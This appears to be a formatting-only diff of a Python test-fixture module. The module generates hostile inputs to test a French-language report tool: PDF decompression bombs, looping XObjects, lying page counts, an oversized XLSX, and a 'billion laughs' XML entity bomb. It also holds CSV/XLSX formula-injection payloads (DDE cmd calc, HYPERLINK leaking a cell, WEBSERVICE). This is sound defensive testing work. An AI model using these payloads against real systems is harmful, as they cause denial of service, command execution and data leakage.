@@ -28,10 +28,18 @@ def small_report(path: Path) -> Path:
                 text="Dans quelle mesure le cluster sert-il ses membres ?",
                 intro=["Deux critères ont été retenus."],
                 criteria=[
-                    CriterionSource(theme="Réseau", criterion="Le cluster anime son réseau.", judgement="Atteint",
-                                    constats=[ConstatSource(number=1, text="Les membres se rencontrent souvent.")]),
-                    CriterionSource(theme="Visibilité", criterion="Le cluster promeut ses membres.", judgement="Partiel",
-                                    constats=[ConstatSource(number=2, text="La promotion reste surtout locale.")]),
+                    CriterionSource(
+                        theme="Réseau",
+                        criterion="Le cluster anime son réseau.",
+                        judgement="Atteint",
+                        constats=[ConstatSource(number=1, text="Les membres se rencontrent souvent.")],
+                    ),
+                    CriterionSource(
+                        theme="Visibilité",
+                        criterion="Le cluster promeut ses membres.",
+                        judgement="Partiel",
+                        constats=[ConstatSource(number=2, text="La promotion reste surtout locale.")],
+                    ),
                 ],
                 conclusion=["Le cluster sert bien ses membres."],
             )
@@ -66,8 +74,12 @@ def bomb(path: Path, expanded_mb: int = 700) -> Path:
     data = b"".join(inner.compress(chunk) for _ in range(expanded_mb)) + inner.flush()
     page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
     return write_pdf(
-        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page,
-         stream(zlib.compress(data, 9), b"/Filter [/FlateDecode /FlateDecode] ")],
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            page,
+            stream(zlib.compress(data, 9), b"/Filter [/FlateDecode /FlateDecode] "),
+        ],
         path,
     )
 
@@ -75,10 +87,17 @@ def bomb(path: Path, expanded_mb: int = 700) -> Path:
 def looping_xobject(path: Path) -> Path:
     """A form XObject that draws itself."""
     page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>"
-    form = stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /X 5 0 R >> >> ")
+    form = stream(
+        b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /X 5 0 R >> >> "
+    )
     return write_pdf(
-        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page,
-         stream(b"BT /F1 12 Tf 72 720 Td (Boucle) Tj ET /X Do"), form],
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            page,
+            stream(b"BT /F1 12 Tf 72 720 Td (Boucle) Tj ET /X Do"),
+            form,
+        ],
         path,
     )
 
@@ -87,8 +106,12 @@ def lying_page_count(path: Path) -> Path:
     """A page tree that claims a hundred million pages and holds one."""
     page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
     return write_pdf(
-        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 100000000 >>", page,
-         stream(b"BT 72 720 Td (Page) Tj ET")],
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 100000000 >>",
+            page,
+            stream(b"BT 72 720 Td (Page) Tj ET"),
+        ],
         path,
     )
 
@@ -96,21 +119,33 @@ def lying_page_count(path: Path) -> Path:
 def many_pages(path: Path, count: int) -> Path:
     """A real document of ``count`` empty pages (the page-count cap must refuse it quickly)."""
     kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(count))
-    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
-               stream(b"")]
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
+        stream(b""),
+    ]
     objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"] * count
     return write_pdf(objects, path)
 
 
 def long_text(path: Path, count: int, lines: int = 50) -> Path:
     """A harmless document that takes long to read: ``count`` pages of ``lines`` lines of text each."""
-    text = b"BT /F1 10 Tf 72 800 Td " + b" ".join(b"(Ligne %d d'un long rapport fictif) Tj 0 -14 Td" % i
-                                                 for i in range(lines)) + b" ET"
+    text = (
+        b"BT /F1 10 Tf 72 800 Td "
+        + b" ".join(b"(Ligne %d d'un long rapport fictif) Tj 0 -14 Td" % i for i in range(lines))
+        + b" ET"
+    )
     kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(count))
-    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
-               stream(text), b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
-    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
-                b"/Contents 3 0 R >>"] * count
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
+        stream(text),
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+    ]
+    objects += [
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
+        b"/Contents 3 0 R >>"
+    ] * count
     return write_pdf(objects, path)
 
 
@@ -141,7 +176,7 @@ FORMULAS = [
     "-2+3+cmd|' /C calc'!A0",
     '=HYPERLINK("http://127.0.0.1:9/?leak="&A1;"cliquer")',
     "\t=1+1",
-    "=WEBSERVICE(\"http://127.0.0.1:9/\")",
+    '=WEBSERVICE("http://127.0.0.1:9/")',
 ]
 """Cells a spreadsheet would run as formulas (DDE, HYPERLINK, WEBSERVICE)."""
 
@@ -149,7 +184,9 @@ FORMULAS = [
 def activity_csv(rows: int = 5) -> str:
     lines = ["id;date;description;partenaires"]
     for i in range(rows):
-        lines.append(f"A{i};2024-03-{i % 28 + 1:02d};Atelier d'échange n°{i} sur l'économie circulaire à Liège;Pôle Démo")
+        lines.append(
+            f"A{i};2024-03-{i % 28 + 1:02d};Atelier d'échange n°{i} sur l'économie circulaire à Liège;Pôle Démo"
+        )
     return "\n".join(lines) + "\n"
 
 
@@ -179,8 +216,10 @@ def xlsx_bomb(rows: int = 1_500_000) -> bytes:
             if info.filename == "xl/worksheets/sheet1.xml":
                 head, _, _ = data.partition(b"<sheetData>")
                 _, _, tail = data.partition(b"</sheetData>")
-                body = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (i, i)
-                                for i in range(1, rows + 1))
+                body = b"".join(
+                    b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (i, i)
+                    for i in range(1, rows + 1)
+                )
                 # the dimension still says A1:B2: a reader trusting it would miss the rows
                 data = head + b"<sheetData>" + body + b"</sheetData>" + tail
             dst.writestr(info, data)
@@ -195,7 +234,9 @@ def table_cases(count: int, seed: int = 11) -> list[tuple[str, bytes]]:
     """
     rng = random.Random(seed)
     text = activity_csv()
-    xlsx = xlsx_bytes([["id", "date", "description"], *[[f"A{i}", "2024-01-02", f"Atelier n°{i} à Namur"] for i in range(5)]])
+    xlsx = xlsx_bytes(
+        [["id", "date", "description"], *[[f"A{i}", "2024-01-02", f"Atelier n°{i} à Namur"] for i in range(5)]]
+    )
     cases: list[tuple[str, bytes]] = [
         ("utf8.csv", text.encode("utf-8")),
         ("utf8-bom.csv", text.encode("utf-8-sig")),
@@ -212,10 +253,18 @@ def table_cases(count: int, seed: int = 11) -> list[tuple[str, bytes]]:
         ("wide-row.csv", b"id,description," + b",".join(b"c%d" % i for i in range(20_000)) + b"\n1,a\n"),
         ("ragged.csv", b"id;description\n1\n2;a;b;c;d\n;;;\n"),
         ("cr-only.csv", text.replace("\n", "\r").encode("utf-8")),
-        ("formulas.csv", ("id,description\n" + "".join(f'{i},"{f.replace(chr(34), chr(34) * 2)}"\n'
-                                                        for i, f in enumerate(FORMULAS))).encode("utf-8")),
+        (
+            "formulas.csv",
+            (
+                "id,description\n"
+                + "".join(f'{i},"{f.replace(chr(34), chr(34) * 2)}"\n' for i, f in enumerate(FORMULAS))
+            ).encode("utf-8"),
+        ),
         ("million-rows.csv", b"id,description\n" + b"".join(b"%d,Atelier\n" % i for i in range(1_000_000))),
-        ("formulas.xlsx", xlsx_bytes([["id", "description", "total"], *[[i, f, "=SUM(1,2)"] for i, f in enumerate(FORMULAS)]])),
+        (
+            "formulas.xlsx",
+            xlsx_bytes([["id", "description", "total"], *[[i, f, "=SUM(1,2)"] for i, f in enumerate(FORMULAS)]]),
+        ),
         ("not-a-zip.xlsx", b"id,description\n1,a\n"),
         ("zip-without-workbook.xlsx", _zip({"hello.txt": b"bonjour"})),
         ("empty-sheet.xlsx", xlsx_bytes([])),
@@ -252,10 +301,12 @@ def entity_bomb(path: Path, levels: int, before: str = "") -> Path:
     """RDF/XML whose DTD nests ``levels`` entities ten-fold ("billion laughs": 10**levels copies of
     "lol" once expanded), with ``before`` (a comment, a processing instruction) ahead of the DOCTYPE."""
     lols = "".join(f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(1, levels + 1))
-    path.write_text(f'<?xml version="1.0"?>\n{before}<!DOCTYPE rdf:RDF [<!ENTITY l0 "lol">{lols}]>\n'
-                    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="http://e/">'
-                    f'<rdf:Description rdf:about="http://e/a"><e:p>&l{levels};</e:p></rdf:Description></rdf:RDF>',
-                    encoding="utf-8")
+    path.write_text(
+        f'<?xml version="1.0"?>\n{before}<!DOCTYPE rdf:RDF [<!ENTITY l0 "lol">{lols}]>\n'
+        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="http://e/">'
+        f'<rdf:Description rdf:about="http://e/a"><e:p>&l{levels};</e:p></rdf:Description></rdf:RDF>',
+        encoding="utf-8",
+    )
     return path
 
 
